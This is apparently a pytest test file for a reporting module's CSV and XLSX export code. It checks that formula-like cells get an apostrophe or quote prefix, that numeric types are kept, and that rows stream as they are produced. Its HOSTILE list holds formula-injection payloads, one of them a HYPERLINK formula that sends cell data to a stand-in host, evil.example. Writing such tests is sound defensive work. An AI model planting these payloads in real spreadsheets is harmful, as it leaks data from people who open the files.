"""Spreadsheet exports: formula-like text is neutralised in CSV and XLSX, numbers stay numbers,
and rows are produced as they are consumed."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from workflow.reports.exports import Table, csv_cell, csv_chunks, csv_uncell, xlsx_file

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"查看")', "+1+1", "-1+1", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1", "-", "+", "@"]
COLUMNS = ("code", "township.name", "amount", "count", "text_amount", "note", "flag")


def table(codes):
    return Table("t", COLUMNS, ({"code": c, "township": {"name": "南宾街道"},
                                 "amount": Decimal("-12.50"), "count": -3,
                                 "text_amount": "-12.50", "note": None, "flag": True}
                                for c in codes))


def csv_rows(t):
    text = b"".join(csv_chunks(t)).decode("utf-8")
    assert text.startswith("\ufeffcode,township.name,amount")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe():
    rows = csv_rows(table(HOSTILE))
    assert [r[0] for r in rows[1:]] == ["'" + c for c in HOSTILE]
    for r in rows[1:]:
        assert r[1:] == ["南宾街道", "-12.50", "-3", "-12.50", "", "True"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in r[:2])


@pytest.mark.parametrize("value", HOSTILE + ["'=1", "''x", "'plain", "plain", "-12.50", "12",
                                             "a=b", ""])
def test_the_apostrophe_comes_off_again(value):
    assert csv_uncell(csv_cell(value)) == value


def test_numbers_and_harmless_text_are_left_alone():
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell("-12.50") == "-12.50"
    assert csv_cell("SZ-2025-0001") == "SZ-2025-0001"
    assert csv_cell(None) == ""


def test_xlsx_keeps_formula_like_text_as_quote_prefixed_text_and_numbers_as_numbers():
    with xlsx_file(table(HOSTILE), "t") as f:
        sheet = load_workbook(io.BytesIO(f.read())).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for code, row in zip(HOSTILE, rows, strict=True):
        cell = row[0]
        assert cell.data_type == "s" and cell.quotePrefix, code
        # The text itself, not a formula and not altered (XML reads a CR as a line feed).
        assert cell.value == code.replace("\r", "\n")
        amount, count, text_amount = row[2], row[3], row[4]
        assert amount.data_type == "n" and amount.value == -12.5
        assert count.data_type == "n" and count.value == -3
        assert text_amount.value == "-12.50" and not text_amount.quotePrefix


def test_xlsx_replaces_characters_xml_cannot_carry():
    with xlsx_file(table(["A\x01B"]), "t") as f:
        sheet = load_workbook(io.BytesIO(f.read())).active
    assert sheet.cell(2, 1).value == "A\ufffdB"


def test_rows_are_produced_as_the_file_is_consumed():
    produced = []

    def items():
        for n in range(100_000):
            produced.append(n)
            yield {"code": f"SZ-{n:06d}"}

    chunks = csv_chunks(Table("t", ("code",), items()))
    first = next(chunks)
    assert first.startswith("\ufeffcode".encode())
    assert 0 < len(produced) < 100_000  # one chunk's worth, not the whole list
    assert sum(len(c) for c in chunks) > 0 and len(produced) == 100_000


def test_cells_are_typed_by_their_column_not_by_their_look():
    from datetime import date

    from workflow.reports.exports import typed

    assert typed("area_m2", "12.50") == Decimal("12.50")
    assert typed("township.code", "500240001") == "500240001"
    assert typed("code", "20250001") == "20250001"
    assert typed("due_on", "2025-03-01") == date(2025, 3, 1)
    assert typed("explanation", "2025-03-01") == "2025-03-01"
    assert typed("fee_due_yuan", "=1+1") == "=1+1"  # not a number: left to the formula guard


def test_csv_in_chinese_has_chinese_headers_and_yes_no():
    text = b"".join(csv_chunks(table(["SZ-1"]), "zh")).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:2] == ["地块编号", "乡镇（街道）"]
    assert rows[1][-1] == "是"
    assert csv_cell(False, "zh") == "否"


def test_an_empty_table_keeps_its_header_in_both_files():
    empty = Table("t", COLUMNS, iter(()))
    assert b"".join(csv_chunks(empty)).decode("utf-8") == "\ufeff" + ",".join(COLUMNS) + "\r\n"
    with xlsx_file(Table("t", COLUMNS, iter(())), "t") as f:
        sheet = load_workbook(io.BytesIO(f.read())).active
    assert [c.value for c in sheet[1]][0] == "地块编号" and sheet.max_row == 1
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:G1"
